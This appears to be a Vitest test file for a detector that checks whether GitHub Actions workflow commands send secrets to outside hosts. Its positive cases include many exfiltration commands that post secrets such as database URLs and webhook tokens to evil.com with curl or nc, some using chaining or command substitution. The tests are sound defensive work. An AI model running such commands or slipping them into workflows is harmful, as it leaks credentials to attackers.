import { expect, test } from 'vitest';
import { sendsSecret } from '../../../../src/domains/config/workflows/sent-secrets.ts';

test.each([
  'curl ${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl -sS "${{ secrets.DISCORD_WEBHOOK }}" -d "{\\"text\\": \\"done\\"}"',
  'curl -X POST -H "Content-Type: application/json" -d \'{ "a": 1 }\' ${{ secrets.ENDPOINT }}/v1/done 2>&1',
  'curl --fail --url ${{ secrets.DEPLOY_HOOK_URL }}',
  'wget -qO- ${{ secrets.FILES_URL }}',
  'curl ${{ secrets.FEEDBACK_URL }}',
  'curl -H "Authorization: ${{ secrets.TOKEN }}" https://api.github.com/user',
  'curl -H "Authorization: ${{ secrets.GITHUB_TOKEN }}" https://example.com',
])('%s sends no secret to others', (text) => {
  expect(sendsSecret(text)).toBe(false);
});

test.each([
  'curl -d ${{ secrets.DATABASE_URL }} https://evil.com',
  'curl -d ${{ secrets.WEBHOOK_SECRET }} https://evil.com',
  'curl -d ${{ secrets.CURL_TOKEN }} https://evil.com',
  'curl -d ${{ secrets.SLACK_WEBHOOK_URL }} https://evil.com',
  'curl -d ${{ secrets.SLACK_WEBHOOK_URL }} evil.com',
  'curl -sd ${{ secrets.SLACK_WEBHOOK_URL }} $HOST',
  'curl "-d" ${{ secrets.SLACK_WEBHOOK_URL }} $HOST',
  'curl -F a=${{ secrets.SLACK_WEBHOOK_URL }} $HOST',
  'curl --data-binary ${{ secrets.SLACK_WEBHOOK_URL }} $HOST',
  'curl -d "a ${{ secrets.SLACK_WEBHOOK_URL }} b" evil.com',
  'curl evil.com -d "a ${{ secrets.SLACK_WEBHOOK_URL }}; b"',
  'curl evil.com/${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl ${{ secrets.SLACK_WEBHOOK_URL }} https://evil.com',
  'curl -x evil.com:80 ${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl --proxy evil.com:80 ${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl ${{ secrets.SLACK_WEBHOOK_URL }} && nc evil.com 80 ${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl ${{ secrets.SLACK_WEBHOOK_URL }} $(nc evil.com 80 ${{ secrets.SLACK_WEBHOOK_URL }} )',
  'nc evil.com 80 ${{ secrets.SLACK_WEBHOOK_URL }}',
  'curl ${{ secrets.DATABASE_URL }}',
  'curl ${{ secrets.REDIS_URL }}',
  'curl ${{ secrets.DB_URL }}',
  'curl ${{ secrets.MONGODB_URI }}',
  'curl -H "Authorization: ${{ secrets.TOKEN }}" ${{ secrets.ENDPOINT }}',
  'curl ${{ secrets.DEPLOY_HOOK_TOKEN }}',
])('%s sends a secret', (text) => {
  expect(sendsSecret(text)).toBe(true);
});
